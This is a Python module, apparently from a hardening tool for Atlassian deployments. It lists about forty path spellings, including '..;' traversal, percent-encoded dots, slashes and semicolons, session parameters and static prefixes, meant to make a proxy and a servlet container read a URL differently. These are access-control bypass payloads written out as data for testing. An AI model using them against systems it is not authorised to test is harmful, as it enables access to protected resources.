# Copyright (c) 2026, The hardening.atlassian authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways to write a path so that a proxy may read it differently from a servlet container."""

from __future__ import annotations

from collections.abc import Callable


def encoded(text: str, which: Callable[[int, str], bool]) -> str:
    return "".join(f"%{ord(c):02x}" if c != "/" and which(i, c) else c for i, c in enumerate(text))


def segments(path: str) -> list[str]:
    return path.strip("/").split("/")


def joined(parts: list[str], separator: str) -> str:
    return "/" + separator.join(parts)


SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda path: path,
    "trailing slash": lambda path: path.rstrip("/") + "/",
    "trailing semicolon": lambda path: path + ";",
    "session": lambda path: path + ";jsessionid=0123456789ABCDEF",
    "parameter first": lambda path: "/;a=b" + path,
    "empty parameter first": lambda path: "/;" + path,
    "parameter in the first segment": lambda path: joined([segments(path)[0] + ";a", *segments(path)[1:]], "/"),
    "parameter everywhere": lambda path: joined([part + ";a=b;c" for part in segments(path)], "/"),
    "double slash": lambda path: "/" + path,
    "double slashes everywhere": lambda path: joined(["", *segments(path)], "//"),
    "dot": lambda path: "/." + path,
    "dots everywhere": lambda path: joined(segments(path), "/./"),
    "up": lambda path: "/x/.." + path,
    "up with parameter": lambda path: "/x/..;" + path,
    "up with value": lambda path: "/x/..;a=b" + path,
    "up from a parameter": lambda path: "/x;a/..;b" + path,
    "twice up": lambda path: "/x/y/..;/..;" + path,
    "dot with parameter": lambda path: "/.;" + path,
    "encoded dot": lambda path: "/%2e" + path,
    "encoded up": lambda path: "/x/%2e%2e" + path,
    "half encoded up": lambda path: "/x/.%2E" + path,
    "encoded up with parameter": lambda path: "/x/%2e%2e;" + path,
    "encoded semicolon": lambda path: joined([segments(path)[0] + "%3ba", *segments(path)[1:]], "/"),
    "encoded semicolon first": lambda path: "/%3ba" + path,
    "up with encoded semicolon": lambda path: "/x/..%3b" + path,
    "first letter encoded": lambda path: encoded(path, lambda i, c: i == 1),
    "all encoded": lambda path: encoded(path, lambda i, c: True),
    "upper case": lambda path: path.upper(),
    "upper case encoded": lambda path: encoded(path.upper(), lambda i, c: i % 2 == 0),
    "encoded slash": lambda path: joined(segments(path), "%2f") if "/" in path[1:] else path + "%2f",
    "encoded slash before": lambda path: "/x%2f.." + path,
    "encoded backslash": lambda path: joined(segments(path), "%5c") if "/" in path[1:] else path + "%5c",
    "twice encoded": lambda path: encoded(path, lambda i, c: i == 1).replace("%", "%25"),
    "twice encoded semicolon": lambda path: joined([segments(path)[0] + "%253ba", *segments(path)[1:]], "/"),
    "static prefix": lambda path: "/s/0/_" + path,
    "static prefix with parameter": lambda path: "/s/0/_/;" + path,
    "long static prefix": lambda path: "/s/en_GB/1/2/3/_" + path,
    "query": lambda path: path + "?a=;b",
    "fragment": lambda path: path + "#x",
}
